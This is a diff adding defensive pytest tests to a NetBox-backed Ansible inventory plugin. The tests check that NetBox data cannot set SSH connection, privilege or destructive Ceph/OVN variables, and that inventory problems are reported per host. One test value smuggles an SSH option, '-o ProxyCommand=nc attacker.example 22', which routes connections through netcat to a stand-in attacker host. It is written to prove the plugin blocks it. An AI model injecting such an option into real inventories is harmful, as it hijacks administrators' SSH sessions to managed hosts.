@@ -168,3 +168,111 @@ def test_vlan_id_falls_back_to_the_name():
     assert model_mod.vlan_id({"name": "bond0.120"}) == 120
     assert model_mod.interface_type({"type": {"value": "virtual"}, "name": "lo1"}) == "virtual"
     assert model_mod.interface_type({"type": {"value": "virtual"}, "name": "bond0.5"}) == "vlan"
+
+
+SECRET = "-o ProxyCommand=nc attacker.example 22"
+
+
+def test_netbox_data_cannot_set_connection_or_destructive_variables():
+    devices, interfaces, addresses = good_site()
+    devices[0]["config_context"] = {
+        "allmende_data_disks": ["/dev/sdb"],
+        "ansible_ssh_common_args": SECRET,
+        "ansible_host": "203.0.113.9",
+        "ANSIBLE_BECOME_PASS": SECRET,
+        "ceph_osd_wipe_foreign_devices": True,
+        "ovn_central_action": "remove-member",
+        "allmende_inventory_checked": True,
+        "allmende_interfaces": [],
+    }
+    devices[1]["custom_fields"] = {"ansible_user": "root", "rack_unit": 7}
+    m = build(devices, interfaces, addresses)
+    n1, n2 = m.hosts["n1"]["vars"], m.hosts["n2"]["vars"]
+    assert n1["ansible_host"] == "10.0.0.1"  # the plugin's own, from the primary IP
+    for key in (
+        "ansible_ssh_common_args",
+        "ANSIBLE_BECOME_PASS",
+        "ceph_osd_wipe_foreign_devices",
+        "ovn_central_action",
+        "allmende_inventory_checked",
+    ):
+        assert key not in n1
+    assert n1["allmende_interfaces"] and n1["allmende_data_disks"] == ["/dev/sdb"]
+    assert n2["allmende_custom_fields"] == {"rack_unit": 7}
+    text = "\n".join(m.problems)
+    assert SECRET not in text and "203.0.113.9" not in text
+    for key in (
+        "ansible_ssh_common_args",
+        "ansible_host",
+        "ANSIBLE_BECOME_PASS",
+        "ceph_osd_wipe_foreign_devices",
+        "ovn_central_action",
+        "allmende_inventory_checked",
+        "allmende_interfaces",
+    ):
+        assert f"device n1 (site dc1): config_context: key {key} may not come from NetBox" in text, key
+    assert "device n2 (site dc1): custom_fields: key ansible_user may not come from NetBox" in text
+    assert len(m.host_problems["n1"]) == 7 and len(m.host_problems["n2"]) == 1
+
+
+def test_allowed_context_keys_let_chosen_keys_through_but_never_computed_ones():
+    devices, interfaces, addresses = good_site()
+    devices[0]["config_context"] = {
+        "ansible_user": "deploy",
+        "ceph_osd_wipe_foreign_devices": True,
+        "allmende_networks": {},
+        "ansible_port": 2222,
+    }
+    m = build(devices, interfaces, addresses, allowed_context_keys=["ansible_user", "ceph_osd_wipe_*"])
+    hv = m.hosts["n1"]["vars"]
+    assert hv["ansible_user"] == "deploy" and hv["ceph_osd_wipe_foreign_devices"] is True
+    assert "ansible_port" not in hv and hv["allmende_networks"]["management"]["address"] == "10.0.0.1"
+    assert sorted(p.split(": ")[2].split()[1] for p in m.problems) == ["allmende_networks", "ansible_port"]
+    # nested (not flattened) config context: only the protected keys go, computed names are harmless there
+    m = build(devices, interfaces, addresses, flatten_config_context=False)
+    assert m.hosts["n1"]["vars"]["config_context"] == {"allmende_networks": {}}
+
+
+def test_each_host_carries_only_its_own_problems():
+    devices, interfaces, addresses = good_site()
+    devices.append(device(3, "n3", primary=None))
+    devices.append(device(4, None))  # no name: tied to no host
+    devices.append(device(5, "n1", site={"id": 2, "slug": "dc2"}))  # duplicate name: n1's problem
+    interfaces.append(iface(31, 3, "eth0"))
+    addresses.append(addr(106, "10.0.0.2/24", 31))  # n2's address again: the first host by name, n2
+    m = build(devices, interfaces, addresses)
+    problems = {name: host["vars"]["allmende_inventory_problems"] for name, host in m.hosts.items()}
+    assert problems["n3"] == ["device n3 (site dc1): primary_ip4: missing: the host has no address to reach it at"]
+    assert problems["n1"] == ["device n1 (site dc2): name: duplicate host name (also device n1 (site dc1))"]
+    assert problems["n2"] == ["ip address 10.0.0.2: address: assigned 2 times (n2/eno1, n3/eth0)"]
+    assert m.global_problems == ["device id 4: name: missing: cannot be an inventory host"]
+    assert m.problems == m.global_problems + problems["n1"] + problems["n2"] + problems["n3"]
+
+
+def test_whole_inventory_checks_for_any_source():
+    check = model_mod.inventory_problems
+    hostvars = {
+        "a": {"ansible_host": "192.0.2.1", "allmende_interfaces": [{"name": "v20", "type": "vlan", "vid": 20}]},
+        "b": {
+            "ansible_host": "192.0.2.1",
+            "allmende_inventory_problems": ["device b: role: unmapped"],
+            "allmende_interfaces": [{"name": "v30", "type": "vlan"}],
+        },  # checked by the plugin already
+    }
+    found = check(hostvars, {"control": set()}, ["device id 9: name: missing"])
+    assert found == [
+        "device id 9: name: missing",
+        "device b: role: unmapped",
+        "host a interface v20: parent: VLAN interface without a parent interface",
+        "hosts a, b: ansible_host: all use 192.0.2.1",
+        "inventory: group control: no hosts (map a device role to it)",
+    ]
+    hostvars["b"]["ansible_host"] = "192.0.2.2"
+    hostvars["a"]["allmende_interfaces"][0]["parent"] = "eth0"
+    hostvars["a"]["allmende_interfaces"].append({"name": "eth0", "type": "physical"})
+    del hostvars["b"]["allmende_inventory_problems"]
+    assert check(hostvars, {"control": {"a"}}) == [
+        "host b interface v30: parent: VLAN interface without a parent interface",
+        "host b interface v30: untagged_vlan: VLAN interface without a VLAN id",
+    ]
+    assert check({}, {"control": set()}) == ["inventory: hosts: none (check the inventory source and its filters)"]
